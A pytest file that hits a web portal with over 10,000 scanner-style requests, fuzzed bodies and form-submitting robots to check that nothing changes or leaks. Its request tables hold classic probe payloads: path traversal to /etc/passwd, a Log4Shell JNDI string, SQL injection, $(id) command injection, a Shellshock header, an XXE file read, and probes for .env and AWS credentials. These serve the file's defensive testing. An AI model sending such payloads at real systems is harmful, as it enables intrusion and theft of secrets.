"""Scanners and robots: 10,000 requests that nobody meant, and a robot that sends every form it finds."""

from __future__ import annotations

import io
from collections.abc import Iterable, Iterator
from itertools import product
from urllib.parse import quote, urljoin

import pytest

from portalkit.web import Request
from tests.attacks.polyglots import EICAR
from tests.attacks.strings import FAMILIES as STRINGS
from tests.attacks.test_cut_bodies import send, status_of
from tests.faults.server import Client, Server
from tests.faults.world import open_project
from tests.hosts import Host
from tests.web.stage import (
    END,
    MALFORMED,
    UNKNOWN,
    Answer,
    Browser,
    Form,
    Stage,
    answered,
    below,
    confirm,
    crawl,
    fill,
    filled,
    hidden_parts,
    leaks,
    parts_of,
    review,
    secrets_of,
    unknown_link,
)

COMMON = (
    ".env", ".git/HEAD", ".git/config", ".svn/entries", ".DS_Store", ".aws/credentials", ".htpasswd", ".well-known/security.txt", "wp-login.php",
    "wp-admin/", "xmlrpc.php", "phpmyadmin/", "admin", "administrator/", "login", "logout", "api", "api/v1/users", "graphql", "swagger.json",
    "openapi.json", "actuator/env", "server-status", "console", "debug", "debug/pprof/", "metrics", "health", "robots.txt", "sitemap.xml",
    "favicon.ico", "crossdomain.xml", "cgi-bin/test.cgi", "shell.php", "index.php?s=/Index/\\think\\app/invokefunction", "vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "owa/auth/logon.aspx", "remote/login", "solr/admin/info/system", "jenkins/", "manager/html", "backup.zip", "backup.sql", "db.sqlite3", "portal.sqlite3",
    "portal.sqlite3-wal", "files/", "static/../portal.sqlite3", "..%2fportal.sqlite3", "%2e%2e/%2e%2e/etc/passwd", "....//etc/passwd", "etc/passwd%00.html",
    "<script>alert(1)</script>", "' OR 1=1--", "1;SELECT pg_sleep(9)", "${jndi:ldap://evil/x}", "{{7*7}}", "$(id)", "`id`", "|id", "%0d%0aSet-Cookie:a=b", "%00",
    "%ff", "%", "%%", "%u0041", "a" * 3000, "/" * 50, "./" * 50, "?" * 50, "p", "p/", "p/..", "p/./", "l", "l/", "s", "s/", "s/..", "p//", "p/x/resend", "p/x/leave",
)  # fmt: skip
METHODS = (
    "GET",
    "HEAD",
    "OPTIONS",
    "POST",
    "PUT",
    "DELETE",
    "PATCH",
    "TRACE",
    "CONNECT",
    "PROPFIND",
    "SEARCH",
    "get",
    "GET ",
    "M\u00dcLL",
)
QUERIES = ("", "entered=1", "entered=1&entered=1", "download=1", "before=-1", "before=99999999999999999999", "milestone=%00", "milestone=<script>", "next=//evil.example",
           "&" * 999, "a=" * 99, "%", "outcome=approved&reviewed=yes&typed_name=Anna+Keller&pk_end=whole", "_method=POST", "pk_csrf=x")  # fmt: skip
HEADERS: tuple[dict[str, str], ...] = (
    {}, {"range": "bytes=0-"}, {"range": "bytes=-1,0-"}, {"if-none-match": "*"}, {"if-range": "x", "range": "bytes=1-2"}, {"x-http-method-override": "POST"},
    {"content-length": "9"}, {"content-length": "-1"}, {"content-length": "9" * 30}, {"transfer-encoding": "chunked"}, {"accept-language": "x" * 9000},
    {"accept-language": ",;q=,;q=9,*"}, {"origin": "null"}, {"origin": "https://agency.example"}, {"referer": "https://[x"}, {"cookie": "a=b"}, {"user-agent": "() { :;}; id"},
    {"host": "evil.example", "x-forwarded-host": "evil.example"}, {"expect": "100-continue"}, {"upgrade": "h2c"}, {"authorization": "Basic YWRtaW46YWRtaW4="},
    {"content-type": "application/json", "content-length": "2"}, {"content-type": "multipart/form-data; boundary=", "content-length": "2"},
)  # fmt: skip


def paths(stage: Stage) -> list[str]:
    """Every address there is, with known, foreign, hidden, unknown and malformed ids, and every one there never was."""
    found = ["/", *("/" + path for path in COMMON)]
    token = stage.token(stage.own.anna)
    found += [
        f"/l/{token}",
        f"/l/{token}/history",
        f"/l/{token}/nowhere",
        f"/l/{token[:-1]}",
        "/l/x",
    ]
    found += [f"/s/{stage.web.assets.style}", "/s/x.css", "/s/" + "a" * 200]
    ids = [
        parts_of(stage.own)[0],
        parts_of(stage.far)[0],
        hidden_parts(stage.own),
        {**UNKNOWN, "version": "1"},
    ]
    ids += [{**dict.fromkeys(UNKNOWN, text), "version": text} for text in MALFORMED[:4]]
    for link in (
        stage.link(stage.own.anna),
        stage.link(stage.far.anna, stage.far),
        unknown_link(),
        "x",
    ):
        found += [f"/p/{link}/" + fill(path, values) for values in ids for _, _, path in below()]
        found += [f"/p/{link}/{path}" for path in COMMON[:40]]
    return list(dict.fromkeys(found))


def scans(stage: Stage) -> Iterator[Request]:
    """More than 10,000 different requests: paths by methods, queries and headers, with and without a cookie."""
    cookies = dict([stage.cookie(stage.own.anna)])
    all_paths = paths(stage)
    for number, (path, method, sent) in enumerate(product(all_paths, METHODS, ({}, cookies))):
        yield Request(
            method=method, path=path, query=QUERIES[number % len(QUERIES)], headers=HEADERS[number % len(HEADERS)],
            cookies=sent, address="203.0.113.66", form=list,
        )  # fmt: skip


def test_10_000_requests_of_a_scanner_change_nothing_and_learn_nothing(stage: Stage) -> None:
    """No entry, no head that moved, no error, and not a byte of the project whose link it does not hold."""
    before = stage.picture()
    secrets = secrets_of(stage.store, "p-far", beside="p-own")
    asked = [value for values in parts_of(stage.far) for value in values.values() if len(value) > 9]
    asked += [stage.link(stage.far.anna, stage.far), *UNKNOWN.values()]
    seen = set()
    statuses = set()
    for request in scans(stage):
        answer = answered("https://agency.example/portal" + request.path, stage.web.handle(request))
        seen.add(
            (
                request.method,
                request.path,
                request.query,
                tuple(request.headers),
                bool(request.cookies),
            )
        )
        statuses.add(answer.status)
        assert answer.status < 500, request
        assert leaks(answer, secrets, asked) == [], request
        if not request.cookies:
            assert "quokka" not in answer.raw, request
    assert len(seen) >= 10_000
    assert statuses >= {200, 204, 303, 400, 403, 404, 405, 411}
    assert stage.picture() == before


def test_a_scanner_that_sends_rubbish_in_every_body_changes_nothing(host: Host) -> None:
    """Through the adapter: 500 posts of each kind of body to every address that takes one."""
    home = host.home()
    anna, before = home.enter(), home.chain
    kinds = (
        "application/x-www-form-urlencoded",
        "multipart/form-data",
        "multipart/form-data; boundary=b",
        "application/json",
        "text/plain",
        "text/xml",
        "",
        "x/y;" * 50,
    )
    bodies = (b"", b"&" * 5000, b"=" * 999, b"pk_end=whole", b"a=b&pk_end=whole", b"%" * 300, b"\0" * 999, b"--b\r\n", b"--b--", b'{"outcome":"approved"}', EICAR,
              b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>", b"pk_end=whole&" * 2000)  # fmt: skip
    sent = 0
    for path, kind, body in product(
        ("leave", f"a/{home.it.ask}", "a/unknown", "history", "questions", "recap", ""),
        kinds,
        bodies,
    ):
        answer = anna.client.post(anna.base + path, input_stream=io.BytesIO(body), content_length=len(body), content_type=kind,
                                  headers={"Origin": "http://localhost"})  # fmt: skip
        assert answer.status_code in (400, 403, 404, 405, 411, 413), (path, kind, body[:20])
        sent += 1
    assert sent >= 500
    assert home.chain == before


def test_a_share_of_the_scan_through_a_real_server(gunicorn: Server) -> None:
    """Raw requests as scanners write them, broken ones too: the server answers on, and nothing is written."""
    portal = gunicorn.portal()
    scene = open_project(portal)
    gunicorn.start()
    client = Client(gunicorn.port)
    client.enter(scene.url)
    before = portal.state(scene.id, ref=None, account="").chain
    cookie = "; ".join(f"{name}={value}" for name, value in client._cookies.items())
    lines = [
        f"{m} /portal/{quote(p, safe='/%?')} HTTP/1.1"
        for m, p in product(("GET", "HEAD", "OPTIONS", "DELETE"), COMMON)
    ]
    lines += [
        f"{m} {client.base}{p} HTTP/1.1"
        for m, p in product(
            ("GET", "HEAD", "PUT"),
            ("", "history", f"a/{scene.ask.id}", f"f/{scene.home.id}/1", "x"),
        )
    ]
    lines += ["GET", "GET /", "GET / HTTP/9.9", "\x16\x03\x01\x02", "GET http://evil.example/ HTTP/1.1", "GET * HTTP/1.1", "PRI * HTTP/2.0", "GET /portal/\x00 HTTP/1.1",
              "GET /portal/ü HTTP/1.1", "SSH-2.0-x", "POST /portal/ HTTP/1.1", "GET  /portal/ HTTP/1.1", "GET /portal/ HTTP/1.1\nX: y"]  # fmt: skip
    answers = []
    for number, line in enumerate(lines):
        head = (
            f"{line}\r\nHost: x\r\n"
            + (f"Cookie: {cookie}\r\n" if number % 2 else "")
            + "Connection: close\r\n\r\n"
        )
        answers.append(status_of(send(gunicorn.port, head.encode("latin-1", "replace"))))
    assert len(answers) > 300
    assert not [status for status in answers if status >= 500 and status not in (501, 505)], answers
    assert client.get(client.base).status == 200
    assert portal.state(scene.id, ref=None, account="").chain == before
    gunicorn.stop()
    assert "Traceback" not in gunicorn.log.read_text()


# -- a robot that presses every button ----------------------------------------------------------


def buttons(form: Form) -> Iterator[list[tuple[str, str]]]:
    """What a robot sends that fills nothing in: each button of a form, the fields as they stand."""
    for way in form.buttons or (form.fields,):
        yield list(way)


def guesses(form: Form, name: str) -> Iterator[list[tuple[str, str]]]:
    """What a robot sends that fills in what it can guess: every field, every box, every choice."""
    texts = {"typed_name": name, "comment": "x", "reviewed": "yes", "outcome": "approved"}
    for way in buttons(form):
        known = [(n, texts.get(n, v)) for n, v in way if n not in ("reviewed", "outcome")]
        yield [*known[:-1], ("reviewed", "yes"), ("outcome", "approved"), known[-1]]
        yield [*known[:-1], ("reviewed", "on"), *((n, "approved") for n in ("outcome",)), known[-1]]


def forms_of(answers: Iterable[Answer]) -> list[tuple[str, Form]]:
    """Every form of these pages, and where it stands; but the one that takes the robot out."""
    pages = (a for a in answers if a.header("content-type").startswith("text/html"))
    return [(a.url, form) for a in pages for form in a.page.forms if "/leave" not in form.action]


def robot(stage: Stage, name: str | None) -> list[int]:
    """Enter, walk every page, send every form found, and every form of every answer; three rounds deep."""
    found: list[int] = []
    browser = stage.enter()
    answers = list(crawl(browser, stage.url(stage.own.anna)))
    for _ in range(3):
        waiting, answers = forms_of(answers), []
        for url, form in waiting:
            for fields in (*buttons(form), *(guesses(form, name) if name is not None else ())):
                answer = browser.post(urljoin(url, form.action), fields)
                found.append(answer.status)
                answers.append(answer)
    return found


def told(stage: Stage) -> list[str]:
    """What was chosen in the log, by whomever."""
    return [e.kind for e in stage.portal.entries("p-own") if e.kind.startswith("notices.")]


def test_a_robot_that_presses_every_button_does_nothing(stage: Stage) -> None:
    """Mail gateways do: nothing is chosen, no box is ticked, no word is typed, so there is no entry at all.

    It is nobody, too: the access log says that the link was opened, by a machine or a person, and no more.
    """
    before = stage.picture()
    sent = robot(stage, None)
    assert len(sent) >= 6
    assert set(sent) <= {200, 303, 400, 422}
    assert stage.picture() == before
    uses = {use.what for use in stage.portal.access.of("p-own")}
    assert "fetched" in uses
    assert "seen" not in uses


def test_the_robot_finds_every_form(stage: Stage) -> None:
    """Those that ask, decide and choose, so the test above is about what it says."""
    found = {form.action for _, form in forms_of(crawl(stage.enter(), stage.url(stage.own.anna)))}
    for ending in ("/questions", "/recap", f"/a/{stage.own.ask}", "/notices"):
        assert any(action.endswith(ending) for action in found), ending


@pytest.mark.hosts("flask")
@pytest.mark.parametrize("name", ["", " ", "-", "x", "1234", "...", "\u200b", "é", "**"])
def test_a_robot_that_ticks_every_box_and_types_no_name_decides_nothing(
    stage: Stage, name: str
) -> None:
    """Every radio, box and area filled in: without a name of two letters there is no confirmation to send.

    At one host, because what a name is, the core says.
    """
    robot(stage, name)
    assert stage.decisions() == []
    assert told(stage) == []


@pytest.mark.parametrize("family", STRINGS)
def test_what_a_fuzzer_types_into_one_step_is_not_a_decision(stage: Stage, family: str) -> None:
    """Whatever is typed, one request never decides: it takes the answer to a second page, made for it."""
    anna, base = stage.enter(), stage.base(stage.own.anna)
    form = anna.get(f"{base}a/{stage.own.ask}").form(f"a/{stage.own.ask}")
    for text in STRINGS[family]:
        for name in ("outcome", "comment", "reviewed", "typed_name", "shown", "pk_csrf"):
            answer = anna.post(
                form.action, [(n, text if n == name else v) for n, v in filled(form)]
            )
            assert answer.status in (200, 400, 403, 422)
    assert stage.decisions() == []


def test_the_robot_is_no_straw_man(stage: Stage) -> None:
    """The same robot with a name to type does decide, so the tests above are about what they say.

    What it is told by mail is as before even then.
    """
    robot(stage, "Anna Keller")
    assert len(stage.decisions()) >= 1
    assert told(stage) == []


def test_what_a_robot_has_to_do_to_decide_is_what_a_person_does(stage: Stage) -> None:
    """Said openly: who chooses, ticks, types a name and confirms is taken for the person, because the link is all there is."""
    anna, base = stage.enter(), stage.base(stage.own.anna)
    restated = review(anna, base, stage.own.ask, typed_name="Some Robot")
    assert stage.decisions() == []
    assert confirm(anna, restated).status == 303
    [decision] = stage.decisions()
    assert decision.fact.typed_name == "Some Robot"
    assert decision.fact.recognised == "link"


def test_a_robot_that_guesses_what_to_fill_in_is_heard_but_counts_nothing_twice(
    stage: Stage,
) -> None:
    """Said openly: whoever ticks the box on purpose is taken for the person; it is one entry a day, and decides nothing."""
    anna, base = stage.enter(), stage.base(stage.own.anna)
    before = len(stage.portal.entries("p-own"))
    for _ in range(100):
        anna.submit(anna.get(base).form("/recap"), looked="yes")
    assert [e.kind for e in stage.portal.entries("p-own")[before:]] == ["recap.asked"]


def test_a_robot_at_the_door_writes_one_wish_a_day_and_no_more(stage: Stage) -> None:
    """The door's one form asks for the link again: pressed a thousand times it is one entry, and mails nobody itself."""
    browser = Browser(stage.web)
    before = len(stage.portal.entries("p-own"))
    for _ in range(1000):
        assert browser.post(stage.base(stage.own.anna) + "resend", [END]).status == 200
    after = stage.portal.entries("p-own")
    assert [entry.kind for entry in after[before:]] == ["link.requested"]


# -- robots and what a person is told by mail ---------------------------------------------------


def ended_by(stage: Stage) -> str:
    """The address in Anna's mails that ends them."""
    return stage.portal.unsubscribe_url(stage.project(), stage.own.anna.id)


def test_a_robot_that_fetches_and_presses_everything_ends_no_mail(stage: Stage) -> None:
    """The address of the header stands in the mail's source: it is fetched, and its form is sent in every way."""
    url = ended_by(stage)
    browser = Browser(stage.web)
    waiting = [(url, form) for form in browser.get(url).page.forms]
    assert waiting
    for _ in range(3):
        answers = [
            browser.post(urljoin(at, form.action), fields)
            for at, form in waiting
            for fields in (*buttons(form), *guesses(form, "Anna Keller"))
        ]
        assert {answer.status for answer in answers} <= {400, 422}
        waiting = [(a.url, form) for a in answers for form in a.page.forms]
    assert told(stage) == []


def clicked(page: Answer, action: str) -> list[tuple[str, str]]:
    """What a form holds once a robot in a browser has clicked on all of it, from the top to the end."""
    form = page.form(action)
    chosen = {e.get("name"): e.get("value") for e in page.page.elements if e.get("type") == "radio"}
    fields = [(n, v) for n, v in form.fields if n not in chosen]
    return [*fields[:-1], *chosen.items(), fields[-1]]


def test_a_robot_that_clicks_on_every_choice_ends_with_the_one_that_changes_nothing(
    stage: Stage,
) -> None:
    """Of what can be chosen the last is as it was: a person stops at what they want, a robot does not."""
    url = ended_by(stage)
    page = stage.browser().get(url)
    assert stage.browser().post(url, clicked(page, url.partition("/portal")[2])).status == 200
    anna, base = stage.enter(), stage.base(stage.own.anna)
    assert anna.post(base + "notices", clicked(anna.get(base + "notices"), "notices")).status == 200
    assert told(stage) == []


@pytest.mark.parametrize("family", STRINGS)
def test_what_a_fuzzer_posts_to_the_address_of_a_mail_ends_nothing(
    stage: Stage, family: str
) -> None:
    """One body ends mail, and it is asked for letter by letter."""
    url = ended_by(stage)
    for text in STRINGS[family]:
        for fields in (
            [("List-Unsubscribe", text)],
            [(text, "One-Click")],
            [("choice", text), END],
            [(text, "decisions"), END],
        ):
            assert stage.browser().post(url, fields).status in (400, 413, 422)
    assert told(stage) == []


def test_a_person_who_chooses_does_end_it(stage: Stage) -> None:
    """So the tests above are about what they say."""
    browser = Browser(stage.web)
    [form] = browser.get(ended_by(stage)).page.forms
    assert browser.submit(form, choice="decisions").status == 200
    assert told(stage) == ["notices.chosen"]
